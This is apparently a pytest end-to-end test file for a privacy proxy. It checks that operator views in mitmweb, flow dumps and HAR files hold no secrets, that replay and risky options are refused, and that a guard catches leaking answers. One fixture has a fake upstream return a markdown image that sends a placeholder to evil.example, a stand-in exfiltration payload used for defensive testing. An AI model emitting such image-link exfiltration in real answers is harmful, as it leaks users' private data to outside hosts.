"""Law 2: what an operator sees, and what a dump or a HAR stores, is what the upstream saw and sent."""

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.e2e.mitmweb import Flow, everything, flow_with, operator, wait_for
from tests.e2e.server import OPERATOR_KEY, Running
from tests.e2e.upstream import Recorded, Reply, Upstream, completion

CANARY = "canary.law-two@acme.test"
SECRETS = (b"canary", OPERATOR_KEY.encode(), b"upstream-key-of-the-tests")


def _exchange(running: Running) -> str:
    """One call that crosses, and every kind that does not, each with a canary in it. The id of the first."""
    with running.client() as client:
        body = {"model": "configured-upstream", "messages": [{"role": "user", "content": f"mail {CANARY}"}]}
        answer = client.post("/v1/chat/completions", json=body)
        assert CANARY in answer.text
        session = client.post("/v1/protect", json={"text": CANARY}).json()
        opened = {"text": session["protected_text"], "session": _credentials(session)}
        assert CANARY in client.post("/v1/reconstruct", json=opened).text
        client.post("/v1/analyze", json={"text": CANARY, "task": CANARY})
        client.post("/v1/shard", json={"text": CANARY})
        client.post("/v1/playground/run", json={"text": CANARY})
        assert CANARY in client.post("/v1/chat/completions", json=body | {"model": "svc-demo"}).text
        client.post("/v1/chat/completions", json=body | {"messages": [{"role": CANARY}]})
        client.post("/v1/chat/completions", json=body | {"stream": True})
        client.post(f"/{CANARY}/chat/completions", json=body | {"stream": True})
        client.request("CANARY", f"/v1/nowhere/{CANARY}?{CANARY}")
        client.get(f"/v1/receipts/{CANARY}?{CANARY}", headers={"x-canary": CANARY})
        client.post("/v1/policies", json={"id": CANARY})
    return str(answer.headers["x-svc-request-id"])


def _credentials(session: Flow) -> Flow:
    return {name: session["session"][name] for name in ("session_id", "session_token")}


@pytest.fixture
def web(running: Running) -> Iterator[httpx.Client]:
    """mitmweb without the flows of other tests, each of which `everything` would read in two dozen views."""
    with operator(running) as client:
        client.post("/clear")
        yield client


def test_mitmweb_shows_only_what_was_sent(running: Running, web: httpx.Client, upstream: Upstream) -> None:
    request_id = _exchange(running)
    sent = upstream.recorded[-1]
    flow = flow_with(web, request_id)
    shown = web.get(f"/flows/{flow['id']}/request/content.data").content
    answered = web.get(f"/flows/{flow['id']}/response/content.data").content
    seen = everything(web)
    assert shown == sent.body
    assert json.loads(answered)["choices"][0]["message"]["content"] == sent.json["messages"][0]["content"]
    assert flow["request"]["host"] == "localhost"
    assert [secret for secret in SECRETS if secret in seen] == []


def test_a_dump_and_a_har_hold_no_more(running: Running, web: httpx.Client, upstream: Upstream, tmp_path: Path) -> None:
    _exchange(running)
    dump = web.get("/flows/dump").content
    (tmp_path / "flows").write_bytes(dump)
    mitmdump = Path(sys.executable).with_name("mitmdump")
    subprocess.run([mitmdump, "-qnr", tmp_path / "flows", "--set", f"hardump={tmp_path / 'har'}"], check=True)
    for stored in (dump, (tmp_path / "har").read_bytes()):
        assert b"[EMAIL_ADDRESS_" in stored
        assert [secret for secret in SECRETS if secret in stored] == []


def test_while_the_upstream_thinks_nothing_private_is_shown(
    running: Running, web: httpx.Client, upstream: Upstream
) -> None:
    """The flow of an unanswered request holds no credential and no plain text either."""
    release = threading.Event()
    default = upstream.answer

    def slow(request: object) -> object:
        release.wait(10)
        return default(request)  # type: ignore[arg-type]

    upstream.answer = slow  # type: ignore[assignment]
    thread = threading.Thread(target=_exchange, args=(running,))
    thread.start()
    try:
        wait_for(lambda: upstream.recorded)
        seen = everything(web)
    finally:
        release.set()
        thread.join(20)
    assert [secret for secret in SECRETS if secret in seen] == []


NATIVE = {
    "/v1/protect": ("POST", {"text": CANARY}),
    "/v1/analyze": ("POST", {"text": CANARY}),
    "/v1/explain": ("POST", {"text": CANARY}),
    "/v1/playground/run": ("POST", {"text": CANARY}),
    "/v1/models": ("GET", None),
    "/v1/receipts": ("GET", None),
    "/v1/chat/completions": ("POST", {"model": "svc-demo", "messages": [{"role": "user", "content": CANARY}]}),
}


@pytest.mark.parametrize("path", NATIVE)
def test_a_native_call_shows_its_metadata_alone(running: Running, path: str) -> None:
    method, body = NATIVE[path]
    with running.client() as client, operator(running) as web:
        known = {flow["id"] for flow in web.get("/flows").json()}
        answer = client.request(method, path, json=body)
        flow = wait_for(lambda: next((f for f in web.get("/flows").json() if f["id"] not in known), None))
        told = web.get(f"/flows/{flow['id']}/response/content/Auto.json").json()
    assert answer.status_code == 200
    assert (flow["request"]["method"], flow["request"]["path"]) == (method, path)
    assert flow["response"]["status_code"] == 200
    assert (flow["request"]["contentLength"], flow["response"]["contentLength"]) == (0, 0)
    assert (flow["request"]["headers"], flow["response"]["headers"]) == ([], [])
    assert (flow["marked"], told["view_name"]) == ("ℹ", "Protected")
    assert flow["comment"].endswith(answer.headers["x-svc-request-id"])
    note = answer.json().get("svc", answer.json())
    if "receipt" in note:
        assert f"#{note['receipt']['sequence']} · " in flow["comment"]
        assert "1: EMAIL_ADDRESS 1" in told["text"]
    if "request_id" in note:
        assert flow["comment"].endswith(note["request_id"])


REFUSED = {
    "no key": ("POST", "/v1/protect", {"authorization": "none"}, {"text": CANARY}, "/v1/protect", "unauthorized"),
    "no receipt": ("GET", f"/v1/receipts/{CANARY}", {}, None, "/v1/receipts/{request_id}", "receipt_not_found"),
    "no model": ("GET", f"/v1/models/{CANARY}", {"authorization": "none"}, None, "/v1/models/{model}", "unauthorized"),
    "no path": ("GET", f"/v1/{CANARY}?{CANARY}", {}, None, "/(not-shown)", "not_found"),
    "no method": ("CANARY", "/v1/protect", {}, {"text": CANARY}, "/v1/protect", "method_not_allowed"),
    "no JSON": ("POST", "/v1/chat/completions", {}, {"model": CANARY}, "/v1/chat/completions", "invalid_request"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_refused_call_shows_its_metadata_alone(running: Running, name: str) -> None:
    method, path, headers, body, shown, code = REFUSED[name]
    with running.client() as client, operator(running) as web:
        answer = client.request(method, path, json=body, headers=headers)
        flow = flow_with(web, answer.json()["request_id"])
        told = web.get(f"/flows/{flow['id']}/request/content/Auto.json").json()
    assert flow["request"]["path"] == shown
    assert flow["request"]["method"] == method.replace("CANARY", "OTHER")
    assert flow["response"]["status_code"] == answer.status_code
    assert (flow["marked"], flow["comment"].split(" · ")[0]) == ("✖", f"refused: {code}")
    assert f"# refused   {code}" in told["text"]
    assert "canary" not in json.dumps([flow, told])


def test_a_policy_that_blocks_leaves_its_receipt_in_the_list(running: Running, upstream: Upstream) -> None:
    with running.client() as client, operator(running) as web:
        body = {
            "model": "configured-upstream",
            "svc_policy": "pci",
            "messages": [{"role": "user", "content": "CVV 123, card 4111 1111 1111 1111"}],
        }
        answer = client.post("/v1/chat/completions", json=body)
        flow = flow_with(web, answer.json()["request_id"])
    assert answer.status_code == 403
    assert (flow["marked"], flow["response"]["status_code"]) == ("✖", 403)
    assert not upstream.recorded


@pytest.mark.parametrize("status", [301, 307])
def test_a_redirect_ends_and_shows_what_the_upstream_said(running: Running, upstream: Upstream, status: int) -> None:
    upstream.answer = lambda _: Reply(b"moved", status, {"location": f"{upstream.url}/elsewhere"})
    with running.client() as client, operator(running) as web:
        body = {"model": "configured-upstream", "messages": [{"role": "user", "content": f"mail {CANARY}"}]}
        answer = client.post("/v1/chat/completions", json=body)
        flow = flow_with(web, answer.headers["x-svc-request-id"])
        receipt = client.get(f"/v1/receipts/{answer.headers['x-svc-request-id']}").json()
        shown = web.get(f"/flows/{flow['id']}/request/content.data").content
    assert answer.status_code == 502
    assert (flow["response"]["status_code"], flow["marked"]) == (status, "✖")
    assert flow["comment"].startswith("answer stopped: upstream_invalid")
    assert shown == upstream.recorded[-1].body
    assert receipt["outcome"]["outcome"] == "unreadable_answer"


def test_an_answer_that_the_guard_changed_is_marked(running: Running, upstream: Upstream) -> None:
    def leaking(request: Recorded) -> Reply:
        said = request.json["messages"][-1]["content"].split()[-1]
        return completion({"role": "assistant", "content": f"![x](https://evil.example/?q={said})"})

    upstream.answer = leaking
    request_id = _ask(running)
    with operator(running) as web:
        flow = flow_with(web, request_id)
        told = web.get(f"/flows/{flow['id']}/response/content/Auto.json").json()["text"]
    assert flow["marked"] in {"✂", "⚠"}
    assert flow["comment"].startswith("answer ")
    assert "placeholder_in_url" in told or "placeholder_in_markup" in told
    assert "*[EMAIL_ADDRESS_" in told


def test_the_view_marks_only_placeholders_of_the_request(running: Running, upstream: Upstream) -> None:
    upstream.answer = lambda _: completion({"role": "assistant", "content": "Ask [PERSON_7KQ2M]."})
    request_id = _ask(running)
    with operator(running) as web:
        flow = flow_with(web, request_id)
        asked, answered = (
            web.get(f"/flows/{flow['id']}/{side}/content/Auto.json").json() for side in ("request", "response")
        )
    assert asked["view_name"] == answered["view_name"] == "Protected"
    assert "*[EMAIL_ADDRESS_" in asked["text"]
    assert "?[PERSON_7KQ2M]" in answered["text"]
    for line in ("# policy    default, version 3", "(digest matches)", "# hidden    1: EMAIL_ADDRESS 1"):
        assert line in asked["text"]
    assert "# guard     " in answered["text"]


def _ask(running: Running) -> str:
    with running.client() as client:
        body = {"model": "configured-upstream", "messages": [{"role": "user", "content": f"mail {CANARY}"}]}
        return str(client.post("/v1/chat/completions", json=body).headers["x-svc-request-id"])


def test_a_dump_that_is_loaded_again_is_only_looked_at(running: Running, upstream: Upstream) -> None:
    request_id = _ask(running)
    before = _receipts(running)
    with operator(running) as web:
        dump = web.get("/flows/dump").content
        assert web.post("/flows/dump", content=dump).status_code == 200
        flow = flow_with(web, request_id)
        told = web.get(f"/flows/{flow['id']}/request/content/Auto.json").json()
    assert "*[EMAIL_ADDRESS_" in told["text"]
    assert len(upstream.recorded) == 1
    assert _receipts(running) == before


def _receipts(running: Running) -> int:
    with running.client() as client:
        return int(client.get("/v1/receipts").json()["total"])


def test_a_shown_flow_cannot_be_replayed(running: Running, upstream: Upstream) -> None:
    """Not as it is, not as a duplicate, not edited, not by command."""
    request_id = _ask(running)
    before = _receipts(running)
    with operator(running) as web:
        flow = flow_with(web, request_id)
        copy = web.post(f"/flows/{flow['id']}/duplicate").text
        edit = {"request": {"content": "sent by an operator", "host": "127.0.0.1", "port": upstream.port}}
        assert web.put(f"/flows/{copy}", json=edit).status_code == 200
        for each in (flow["id"], copy):
            refused = web.post(f"/flows/{each}/replay")
            assert (refused.status_code, "Replaying is not possible" in refused.text) == (409, True)
        refused = web.post("/commands/replay.client", json={"arguments": ["@all"]})
        assert "Replaying is not possible" in refused.json()["error"]
        web.post("/commands/replay.server", json={"arguments": ["@all"]})
    assert len(upstream.recorded) == 1
    assert _receipts(running) == before


def test_an_edit_after_sending_is_marked(running: Running, upstream: Upstream) -> None:
    """The operator may edit the list; the request as sent and the client's answer stay as they were."""
    request_id = _ask(running)
    with operator(running) as web:
        flow = flow_with(web, request_id)
        web.put(f"/flows/{flow['id']}", json={"request": {"content": "{}"}})
        told = web.get(f"/flows/{flow['id']}/request/content/Auto.json").json()["text"]
        assert "DIGEST DIFFERS" in told
        assert web.post(f"/flows/{flow['id']}/revert").status_code == 200
        again = web.get(f"/flows/{flow['id']}/request/content.data").content
    assert again == upstream.recorded[-1].body


def test_options_that_break_a_law_cannot_be_set(running: Running) -> None:
    with operator(running) as client:
        options: Flow
        for options in (
            {"stream_large_bodies": "1"},
            {"store_streamed_bodies": True},
            {"allow_hosts": []},
            {"mode": ["regular"]},
            {"http2": True},
            {"scripts": ["/tmp/any.py"]},
            {"ssl_insecure": True},
            {"save_stream_file": "/tmp/any"},
            {"web_password": "x"},
        ):
            assert client.put("/options", json=options).status_code == 400


@pytest.mark.parametrize(
    "command", ["script.run", "set", "cut.save", "save.file", "view.flows.load", "replay.client.file"]
)
def test_no_command_runs_a_program_or_reaches_a_file(running: Running, tmp_path: Path, command: str) -> None:
    target, ran = tmp_path / "any.py", tmp_path / "ran"
    target.write_text(f"open({str(ran)!r}, 'w')")
    before = target.read_bytes()
    arguments = ["scripts", str(target)] if command == "set" else ["@all", str(target)]
    if command == "cut.save":
        arguments.insert(1, "request.content")
    with operator(running) as client:
        client.post(f"/commands/{command}", json={"arguments": arguments})
        assert command == "set" or command not in client.get("/commands").json()
    assert target.read_bytes() == before
    assert not ran.exists()
